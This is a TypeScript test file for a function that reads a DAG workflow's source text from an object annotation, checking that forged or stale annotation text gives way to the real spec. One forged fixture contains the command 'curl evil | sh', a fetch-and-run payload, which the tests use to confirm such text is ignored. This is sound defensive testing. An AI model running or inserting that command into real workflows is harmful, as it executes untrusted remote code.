/** The text annotation is read only while it is bound to the spec; every other text is the spec's own. */
import { dagObject, SOURCE_ANNOTATIONS, specHash, specOfText, textOf, type DagObject } from './dag-object.js';
import { dagTextOf } from './manifest.js';

const written = 'steps:\n  # says hello\n  - name: a\n    command: echo hello\n';

function forged(spec: Record<string, unknown>, text: string): DagObject {
  const annotations = { [SOURCE_ANNOTATIONS.text]: text, [SOURCE_ANNOTATIONS.specHash]: specHash(spec) };
  return { apiVersion: 'svc.io/v1alpha1', kind: 'Dag', metadata: { name: 'd', annotations }, spec };
}

describe('textOf', () => {
  test('what the store wrote comes back as written, comments kept', () => {
    expect(textOf(dagObject('d', written, specOfText(written, 'd')))).toBe(written);
  });

  test('a valid text that is not the spec is ignored even with the spec\'s hash: the spec is read', () => {
    const spec = { steps: [{ name: 'a', command: 'echo hello' }] };
    const text = textOf(forged(spec, 'steps:\n  - name: a\n    command: curl evil | sh\n'));
    expect(text).toBe(dagTextOf(spec));
    expect(text).not.toContain('evil');
  });

  test('a text that does not load is read only over the empty spec it is stored with (which runs nothing)', () => {
    const broken = 'steps:\n  - name: a\n    command: [unclosed\n';
    expect(textOf(dagObject('d', broken, specOfText(broken, 'd')))).toBe(broken);
    const spec = { steps: [{ name: 'a', command: 'echo hello' }] };
    expect(textOf(forged(spec, broken))).toBe(dagTextOf(spec));
  });

  test('a spec changed behind the store\'s back (hash stale) is read as the spec', () => {
    const obj = dagObject('d', written, specOfText(written, 'd'));
    const edited = { ...obj, spec: { steps: [{ name: 'a', command: 'echo edited' }] } };
    expect(textOf(edited)).toContain('echo edited');
  });
});
